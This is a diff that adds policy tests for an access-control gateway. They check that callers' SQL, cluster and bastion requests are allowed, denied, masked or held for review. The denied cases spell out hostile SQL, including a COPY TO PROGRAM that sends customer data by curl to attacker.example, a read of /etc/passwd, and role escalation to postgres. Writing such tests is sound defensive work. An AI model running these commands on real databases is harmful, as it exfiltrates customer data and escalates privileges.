@@ -1,0 +1,295 @@
+# Policy tests. `gatehouse check examples/quickstart` runs them; CI fails when
+# one does. Each names the caller, the resource and the request, and the
+# decision the policy must reach.
+
+# --- analytics-job: read only --------------------------------------------
+
+test "analytics may connect" {
+  identity = "analytics-job"
+  subject  = "analytics-7f9c"
+  claims   = { env = "prod" }
+  resource = "orders"
+  request  = { kind = "connect" }
+  expect   = "allow"
+}
+
+test "analytics reads orders and customers" {
+  identity     = "analytics-job"
+  subject      = "analytics-7f9c"
+  claims       = { env = "prod" }
+  resource     = "orders"
+  sql          = "SELECT o.id, c.email, c.card_number FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.created_at > now() - interval '1 day'"
+  expect       = "allow"
+  expect_rules = ["analytics-read-only/read"]
+  expect_masks = {
+    "public.customers.email"       = "partial"
+    "public.customers.card_number" = "redact"
+  }
+}
+
+test "analytics cannot write" {
+  identity = "analytics-job"
+  subject  = "analytics-7f9c"
+  claims   = { env = "prod" }
+  resource = "orders"
+  sql      = "INSERT INTO orders (customer_id, total) VALUES (1, 10)"
+  expect   = "deny"
+}
+
+test "analytics cannot hide a write in a CTE" {
+  identity = "analytics-job"
+  subject  = "analytics-7f9c"
+  claims   = { env = "prod" }
+  resource = "orders"
+  sql      = "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone"
+  expect   = "deny"
+}
+
+test "a staging analytics token is not the analytics job" {
+  provider = "corp"
+  subject  = "analytics-7f9c"
+  claims   = { env = "staging" }
+  resource = "orders"
+  sql      = "SELECT 1"
+  expect   = "deny"
+}
+
+test "analytics reads cluster workloads" {
+  identity = "analytics-job"
+  subject  = "analytics-7f9c"
+  claims   = { env = "prod" }
+  resource = "prod-cluster"
+  request  = { verb = "list", resource = "pods", namespace = "shop" }
+  expect   = "allow"
+}
+
+test "analytics cannot read cluster secrets" {
+  identity = "analytics-job"
+  subject  = "analytics-7f9c"
+  claims   = { env = "prod" }
+  resource = "prod-cluster"
+  request  = { verb = "get", resource = "secrets", namespace = "shop", name = "db" }
+  expect   = "deny"
+}
+
+# --- billing-service: read, write billing tables --------------------------
+
+test "billing reads" {
+  identity     = "billing-service"
+  resource     = "orders"
+  sql          = "SELECT id, total FROM orders WHERE id = 42"
+  expect       = "allow"
+  expect_rules = ["billing-service/read", "billing-service/write-billing-tables"]
+}
+
+test "billing writes invoices" {
+  identity     = "billing-service"
+  resource     = "orders"
+  sql          = "BEGIN; INSERT INTO billing.invoices (order_id, amount) SELECT id, total FROM orders WHERE id = 42; COMMIT"
+  expect       = "allow"
+  expect_rules = ["billing-service/write-billing-tables"]
+}
+
+test "billing cannot write orders" {
+  identity     = "billing-service"
+  resource     = "orders"
+  sql          = "UPDATE orders SET total = 0 WHERE id = 42"
+  expect       = "deny"
+  expect_rules = []
+}
+
+test "billing write to payments is held for review" {
+  identity     = "billing-service"
+  resource     = "orders"
+  sql          = "INSERT INTO payments (order_id, amount) VALUES (42, 99.50)"
+  expect       = "review"
+  expect_rules = ["billing-service/write-billing-tables", "guardrails/payments-need-review"]
+}
+
+test "customer email is partly masked for billing" {
+  identity = "billing-service"
+  resource = "orders"
+  sql      = "SELECT email AS e, card_number FROM customers WHERE id = 7"
+  expect   = "allow"
+  expect_masks = {
+    "public.customers.email"       = "partial"
+    "public.customers.card_number" = "redact"
+  }
+}
+
+test "pci callers see card numbers" {
+  identity = "billing-service"
+  groups   = ["pci"]
+  resource = "orders"
+  sql      = "SELECT card_number FROM customers WHERE id = 7"
+  expect   = "allow"
+  expect_masks = {
+    "public.customers.email" = "partial"
+  }
+}
+
+# --- guardrails: for everyone, DBAs included ------------------------------
+
+test "nobody may drop" {
+  provider     = "corp"
+  subject      = "alice"
+  groups       = ["dba"]
+  resource     = "orders"
+  sql          = "/* cleanup */ drop table \"Orders\""
+  expect       = "deny"
+  expect_rules = ["dba/administer", "guardrails/no-drop-or-truncate"]
+}
+
+test "nobody may truncate" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "SELECT 1; TRUNCATE payments"
+  expect   = "deny"
+}
+
+test "a dollar-quoted DROP is only a string" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "SELECT $$DROP TABLE orders$$ AS note"
+  expect   = "allow"
+}
+
+test "delete without where is denied" {
+  identity = "billing-service"
+  resource = "orders"
+  sql      = "DELETE FROM billing.invoices"
+  expect   = "deny"
+}
+
+test "update where true is denied" {
+  identity = "billing-service"
+  resource = "orders"
+  sql      = "UPDATE billing.invoices SET amount = 0 WHERE true"
+  expect   = "deny"
+}
+
+test "delete with a filter is allowed" {
+  identity = "billing-service"
+  resource = "orders"
+  sql      = "DELETE FROM billing.invoices WHERE id = 9"
+  expect   = "allow"
+}
+
+test "DO blocks are denied" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$"
+  expect   = "deny"
+}
+
+test "new functions are denied" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'"
+  expect   = "deny"
+}
+
+test "COPY to a program is denied" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "COPY customers TO PROGRAM 'curl -d @- https://attacker.example'"
+  expect   = "deny"
+}
+
+test "COPY from a server file is denied" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "COPY customers FROM '/etc/passwd'"
+  expect   = "deny"
+}
+
+test "SET ROLE is denied" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "SET ROLE postgres"
+  expect   = "deny"
+}
+
+test "set_config role is denied" {
+  identity = "billing-service"
+  resource = "orders"
+  sql      = "SELECT pg_catalog.set_config('role', 'postgres', false)"
+  expect   = "deny"
+}
+
+test "server-side file export is denied" {
+  identity = "billing-service"
+  resource = "orders"
+  sql      = "SELECT lo_export(16401, '/tmp/dump')"
+  expect   = "deny"
+}
+
+test "unparseable SQL is denied" {
+  identity = "billing-service"
+  resource = "orders"
+  sql      = "SELEC * FROM orders"
+  expect   = "deny"
+}
+
+test "DBA write to payments still needs review" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "orders"
+  sql      = "UPDATE payments SET amount = 10 WHERE id = 3"
+  expect   = "review"
+}
+
+# --- unknown callers and the bastion -------------------------------------
+
+test "unknown callers are denied by default" {
+  provider     = "corp"
+  subject      = "mallory"
+  resource     = "orders"
+  sql          = "SELECT 1"
+  expect       = "deny"
+  expect_rules = []
+  expect_masks = {}
+}
+
+test "DBAs may run diagnostics on the bastion" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "bastion"
+  request  = { kind = "exec", command = "uptime" }
+  expect   = "allow"
+}
+
+test "no shell on the bastion" {
+  provider = "corp"
+  subject  = "alice"
+  groups   = ["dba"]
+  resource = "bastion"
+  request  = { kind = "shell" }
+  expect   = "deny"
+}
+
+test "no port forwarding through the bastion" {
+  provider     = "corp"
+  subject      = "alice"
+  groups       = ["dba"]
+  resource     = "bastion"
+  request      = { kind = "forward", forward_host = "orders-db.internal", forward_port = 5432 }
+  expect       = "deny"
+  expect_rules = ["bastion-ops/no-forwarding"]
+}
